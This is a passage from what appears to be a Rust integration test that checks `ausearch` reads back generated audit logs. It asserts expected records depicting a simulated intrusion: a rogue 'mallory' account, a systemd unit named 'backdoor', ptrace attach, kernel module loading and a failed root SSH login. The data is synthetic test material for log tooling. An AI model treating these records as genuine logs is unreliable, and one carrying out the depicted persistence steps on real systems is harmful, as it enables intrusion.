            let expected = stats.events + bg.events;
            assert_eq!(serials(&written).len() as u64, expected, "{name}: serials are unique per event");

            let raw = Command::new(ausearch).args(["--raw", "-if"]).arg(&path).output().unwrap();
            assert!(raw.status.success(), "{name}: ausearch --raw: {}", String::from_utf8_lossy(&raw.stderr));
            let raw = String::from_utf8(raw.stdout).unwrap();
            assert_eq!(serials(&raw).len() as u64, expected, "{name}: events found by ausearch --raw");
            assert_eq!(raw.lines().count(), written.lines().count(), "{name}: records found by ausearch --raw");

            let int = Command::new(ausearch).args(["-i", "-if"]).arg(&path).output().unwrap();
            assert!(int.status.success(), "{name}: ausearch -i: {}", String::from_utf8_lossy(&int.stderr));
            let int = String::from_utf8(int.stdout).unwrap();
            assert_eq!(int.lines().filter(|l| *l == "----").count() as u64, expected, "{name}: events in ausearch -i");
            for want in [
                "proctitle=whoami ",
                "argc=1 a0=whoami ",
                &format!("argc=3 a0=bash a1=-c a2={script} "),
                "saddr={ saddr_fam=inet6 laddr=2001:db8::5 lport=443 }",
                "saddr={ saddr_fam=inet laddr=198.51.100.23 lport=8443 }",
                "syscall=connect success=no exit=EINPROGRESS(Operation now in progress)",
                "msg='op=login acct=root exe=/usr/sbin/sshd hostname=? addr=192.0.2.77 terminal=ssh res=failed'",
                "arch=x86_64 syscall=execve success=yes exit=0 ",
                "saddr={ saddr_fam=local path=/run/app/app.sock }",
                "item=1 name=/run/app/app.sock ",
                "syscall=finit_module success=yes",
                "type=KERN_MODULE msg=audit(",
                "name=nf_tables",
                "syscall=kill success=yes exit=0 a0=0x32c a1=SIGTERM",
                "syscall=ptrace success=yes exit=0 a0=PTRACE_ATTACH a1=0x32c",
                "opid=812 oauid=unset ouid=root oses=-1 ocomm=nginx",
                "op=add-user acct=mallory exe=/usr/sbin/useradd",
                "msg='unit=backdoor comm=systemd exe=/usr/lib/systemd/systemd",
            ] {
                assert!(int.contains(want), "{name}: ausearch -i lacks {want:?}");
            }
            // The background's connects are read back with their addresses too.
            assert!(int.contains("saddr={ saddr_fam=local path=/run/php/php8.2-fpm.sock }"), "{name}");
            assert!(int.contains("saddr={ saddr_fam=inet laddr=10.20.3.30 lport=3306 }"), "{name}");
        }
    }
}
